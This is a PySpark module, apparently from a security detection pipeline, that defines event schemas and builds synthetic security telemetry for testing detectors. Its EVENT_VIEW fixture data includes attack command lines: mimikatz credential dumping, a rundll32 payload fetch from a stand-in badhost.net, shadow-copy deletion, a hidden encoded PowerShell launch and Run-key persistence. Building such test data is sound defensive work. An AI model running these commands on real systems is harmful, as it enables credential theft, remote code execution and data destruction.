"""Column layouts: the unified record, the detection record, and the view of the given events table."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from tidewatch.functions.text import first_filled

UNIFIED_COLUMNS = {
    **dict.fromkeys(["event_id", "source_type", "timestamp", "hostname", "domain", "os_platform", "event_type",
                     "raw_event_id"], "string"),
    "raw_eid": "int", "severity": "string",
    "process_name": "string", "process_path": "string", "process_pid": "bigint", "parent_process": "string",
    "parent_pid": "bigint", "command_line": "string", "process_hash_md5": "string", "process_hash_sha256": "string",
    "process_signed": "boolean", "process_signature": "string",
    **dict.fromkeys(["user", "user_domain", "user_sid", "logon_type", "auth_package", "privilege_list"], "string"),
    "src_ip": "string", "src_port": "int", "dst_ip": "string", "dst_port": "int", "protocol": "string",
    "dns_query": "string", "bytes_sent": "bigint", "bytes_recv": "bigint",
    **dict.fromkeys(["file_path", "file_hash", "registry_key", "registry_value", "target_user", "target_computer",
                     "kerberos_ticket_type", "ticket_encryption", "service_name", "group_name", "threat_name",
                     "threat_category", "detection_result", "kaspersky_action", "syscall", "linux_uid", "linux_euid",
                     "linux_auid", "sudo_command", "ssh_key_type"], "string"),
    "label": "int", "label_source": "string",
}

# detection field -> names it may arrive under, first filled wins
DETECTION_ALIASES = {
    "event_id": ["event_id", "EventID"],
    "hostname": ["hostname", "ComputerName", "Computer", "host"],
    "user": ["user", "SubjectUserName", "TargetUserName", "User"],
    "timestamp": ["timestamp", "TimeCreated", "@timestamp"],
    "event_type": ["event_type", "EventType"],
    "process_name": ["process_name", "ProcessName", "Image"],
    "command_line": ["command_line", "CommandLine"],
    "parent_image": ["parent_image", "ParentImage", "parent_process"],
    "parent_command_line": ["parent_command_line", "ParentCommandLine"],
    "script_block_text": ["script_block_text", "ScriptBlockText"],
    "image_loaded": ["image_loaded", "ImageLoaded"],
    "original_filename": ["original_filename", "OriginalFileName"],
    "query_name": ["query_name", "QueryName"],
    "service_file": ["service_file", "ServiceFileName"],
    "message": ["message"], "action": ["action"], "channel": ["channel", "Channel"],
    "hashes": ["hashes", "Hashes"], "signed": ["signed", "Signed"], "target_object": ["target_object", "TargetObject"],
    "source_ip": ["source_ip", "SourceIp"], "destination_ip": ["destination_ip", "DestinationIp"],
    "destination_port": ["destination_port", "DestinationPort"], "logon_type": ["logon_type", "LogonType"],
    "file_path": ["file_path", "TargetFilename"], "url": ["url"], "domain": ["domain"],
}
DETECTION_INTS = ("event_id", "destination_port", "logon_type")


def detection_view(df: DataFrame, keep: tuple[str, ...] = ()) -> DataFrame:
    """Any flat event table to the detection layout; absent names become null, ints that do not parse become 0."""
    have = {c.lower(): c for c in df.columns}

    def pick(field: str) -> Column:
        names = [have[n.lower()] for n in DETECTION_ALIASES[field] if n.lower() in have]
        names = list(dict.fromkeys(names))
        got = first_filled(*[F.col(f"`{n}`") for n in names]) if names else F.lit(None)
        if field in DETECTION_INTS:
            return F.coalesce(got.cast("string").try_cast("int"), F.lit(0)).alias(field)
        return got.cast("string").alias(field)

    return df.select(*keep, *[pick(f) for f in DETECTION_ALIASES])


# The given events table seen as security telemetry. The text runs unchanged in Spark SQL and in ANSI engines.
_BS = "chr(92)"
EVENT_VIEW = {
    "event_key": "event_id",
    "event_ts": "ts",
    "timestamp": "substring(CAST(ts AS STRING), 1, 19)",
    "hostname": "concat('WS-', lpad(CAST(user_id AS STRING), 4, '0'))",
    "user": "CASE CAST(user_id % 7 AS INT) WHEN 0 THEN 'administrator' WHEN 1 THEN 'SYSTEM' "
            "ELSE concat('user', CAST(event_id % 5 AS STRING)) END",
    "source_type": "CASE CAST(user_id % 4 AS INT) WHEN 0 THEN 'sysmon' WHEN 1 THEN 'windows_security' "
                   "WHEN 2 THEN 'linux_auth' ELSE 'firewall' END",
    "event_id": "CASE WHEN event_id % 31 = 0 THEN 4104 WHEN event_id % 37 = 0 THEN 7045 WHEN event_id % 41 = 0 THEN "
                "4698 WHEN event_id % 43 = 0 THEN 4648 WHEN event_id % 47 = 0 THEN 22 WHEN event_id % 53 = 0 THEN 7 "
                "WHEN event_id % 59 = 0 THEN 13 WHEN event_id % 61 = 0 THEN 8 WHEN event_type = 'view' THEN 3 "
                "WHEN event_type = 'click' THEN 1 WHEN event_type = 'signup' THEN 4624 WHEN event_type = 'purchase' "
                "THEN 4688 ELSE 4625 END",
    "event_type": "event_type",
    "process_name": "CASE CAST(event_id % 12 AS INT) WHEN 0 THEN 'powershell.exe' WHEN 1 THEN 'mimikatz.exe' WHEN 2 "
                    "THEN 'schtasks.exe' WHEN 3 THEN 'psexec.exe' WHEN 4 THEN 'rundll32.exe' WHEN 5 THEN 'whoami.exe' "
                    "WHEN 6 THEN 'cmd.exe' WHEN 7 THEN 'chrome.exe' WHEN 8 THEN "
                    f"concat_ws({_BS}, 'C:', 'Windows', 'System32', 'wmiprvse.exe') ELSE 'notepad.exe' END",
    "command_line": "CASE CAST(event_id % 12 AS INT) WHEN 0 THEN 'powershell -nop -w hidden -enc "
                    "aQBuAHYAbwBrAGUALQBleHByZXNzaW9u' WHEN 1 THEN 'sekurlsa::logonpasswords' WHEN 2 THEN "
                    "'schtasks /create /tn upd /ru system /sc onstart' WHEN 3 THEN 'psexec 10.1.2.3 -u admin cmd.exe' "
                    "WHEN 4 THEN 'rundll32 http://update.badhost.net/payload.dll' WHEN 5 THEN 'whoami /priv' "
                    "WHEN 6 THEN 'cmd.exe /c vssadmin delete shadows /all /quiet' WHEN 7 THEN "
                    "'chrome.exe https://intranet.example.org/home' WHEN 9 THEN "
                    "concat('set pth=1 & echo %PATH% && call %COMSPEC% run ', CAST(event_id AS STRING), "
                    "' abcdefghijklmnopqrstuvwxyz 0123456789') ELSE '' END",
    "parent_image": "CASE CAST(event_id % 9 AS INT) WHEN 0 THEN 'outlook.exe' WHEN 1 THEN 'cmd.exe' WHEN 2 THEN "
                    "'svchost.exe' ELSE 'explorer.exe' END",
    "parent_command_line": "''",
    "script_block_text": "CASE WHEN event_id % 23 = 0 THEN 'function x { $a = [reflection.assembly]::load($b); "
                         "virtualalloc; createthread; kernel32 }' ELSE '' END",
    "image_loaded": "CASE CAST(event_id % 19 AS INT) WHEN 0 THEN 'c:/users/public/evil.dll' WHEN 1 THEN "
                    f"concat_ws({_BS}, 'c:', 'windows', 'system32', 'ntdll.dll') ELSE '' END",
    "original_filename": "CASE WHEN event_id % 29 = 0 THEN 'mimikatz.exe' ELSE '' END",
    "query_name": "CASE WHEN event_id % 17 = 0 THEN 'q7k2m9x4p1z8r5t3w6y0ab.data.badhost.net' "
                  "WHEN event_id % 17 = 1 THEN 'a1b2c3d4e5.lab.io' ELSE '' END",
    "service_file": "''",
    "message": "CASE WHEN event_id % 25 = 0 THEN concat('blocked mail from ops', CAST(event_id % 7 AS STRING), "
               f"'@corp.example.net writing ', concat_ws({_BS}, 'C:', 'Temp', 'drop.exe'), ' and ', "
               f"concat_ws({_BS}, 'HKLM', 'Software', 'Run')) ELSE '' END",
    "action": "CASE WHEN event_type = 'error' THEN 'logon_failure' WHEN event_type = 'purchase' THEN "
              "'process_creation' ELSE '' END",
    "channel": "CASE CAST(user_id % 4 AS INT) WHEN 0 THEN 'Microsoft-Windows-Sysmon/Operational' WHEN 1 THEN "
               "'Security' ELSE 'System' END",
    "hashes": "CASE WHEN event_id % 4 = 0 THEN concat('MD5=', md5(CAST(event_id AS STRING))) ELSE '' END",
    "signed": "CASE CAST(event_id % 3 AS INT) WHEN 0 THEN 'true' WHEN 1 THEN 'false' ELSE NULL END",
    "target_object": f"CASE WHEN event_id % 14 = 0 THEN concat_ws({_BS}, 'HKLM', 'Software', 'Microsoft', 'Windows', "
                     f"'CurrentVersion', 'Run', 'upd') WHEN event_id % 14 = 1 THEN concat_ws({_BS}, 'HKLM', 'System', "
                     "'Fonts') ELSE '' END",
    "source_ip": "CASE WHEN event_id % 3 = 0 THEN concat('185.220.101.', CAST(event_id % 254 + 1 AS STRING)) "
                 "ELSE concat('10.0.', CAST(user_id % 256 AS STRING), '.', CAST(event_id % 254 + 1 AS STRING)) END",
    "destination_ip": "CASE CAST(event_id % 6 AS INT) WHEN 0 THEN concat('203.0.113.', CAST(event_id % 200 + 1 AS "
                      "STRING)) WHEN 1 THEN '192.168.1.10' WHEN 2 THEN '172.20.0.9' ELSE '' END",
    "destination_port": "CASE CAST(event_id % 5 AS INT) WHEN 0 THEN 4444 WHEN 1 THEN 443 WHEN 2 THEN 445 WHEN 3 THEN "
                        "53 ELSE 8080 END",
    "logon_type": "CASE CAST(event_id % 6 AS INT) WHEN 0 THEN 2 WHEN 1 THEN 3 WHEN 2 THEN 10 WHEN 3 THEN 9 ELSE 5 END",
    "file_path": f"CASE WHEN event_id % 13 = 0 THEN concat_ws({_BS}, 'C:', 'Users', 'Public', 'stage.dll') ELSE '' END",
    "url": "CASE WHEN event_id % 18 = 0 THEN concat('http://cdn.badhost.net/p/', CAST(event_id % 50 AS STRING)) ELSE '' END",
    "domain": "CASE WHEN event_id % 16 = 0 THEN 'relay.badhost.net' ELSE '' END",
    "value": "value",
    "score": "CASE WHEN value / 300.0 > 1.0 THEN CAST(1.0 AS DOUBLE) ELSE value / 300.0 END",
    "label": "CASE WHEN event_id % 12 IN (0, 1, 3, 6) THEN 1 ELSE 0 END",
}


def load(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{table}.parquet")


def event_columns(*names: str) -> list[str]:
    picked = names or tuple(EVENT_VIEW)
    return [f"{EVENT_VIEW[n]} AS `{n}`" for n in picked]


#: Rows that one task of a CPU-bound row stage gets.
TASK_ROWS = 50_000


def spread(df: DataFrame) -> DataFrame:
    """Round-robin over all cores and into tasks of about TASK_ROWS rows, but only where the scan gives fewer tasks.

    Row scoring is CPU-bound, so one small file would run on one core, and a split of a narrow table holds millions of
    rows. A scan with enough tasks passes through untouched, without a shuffle.
    """
    cores = df.sparkSession.sparkContext.defaultParallelism
    tasks = max(cores, -(-df.count() // TASK_ROWS))  # counts come from the files' footers
    return df.repartition(tasks) if df.rdd.getNumPartitions() < tasks else df


def security_events(spark: SparkSession, sf_dir: str, *names: str) -> DataFrame:
    """The given events table as security telemetry; only the wanted columns reach the scan."""
    raw = load(spark, sf_dir, "events").select("event_id", "ts", "user_id", "event_type", "value")
    return spread(raw).selectExpr(*event_columns(*names))


def as_unified(df: DataFrame) -> DataFrame:
    """Pad and order to the unified layout, casting softly."""
    have = set(df.columns)
    return df.select(*[
        (F.col(f"`{c}`").cast("string").try_cast(t) if t != "string" else F.col(f"`{c}`").cast("string"))
        .alias(c) if c in have else F.lit(None).cast(t).alias(c)
        for c, t in UNIFIED_COLUMNS.items()])
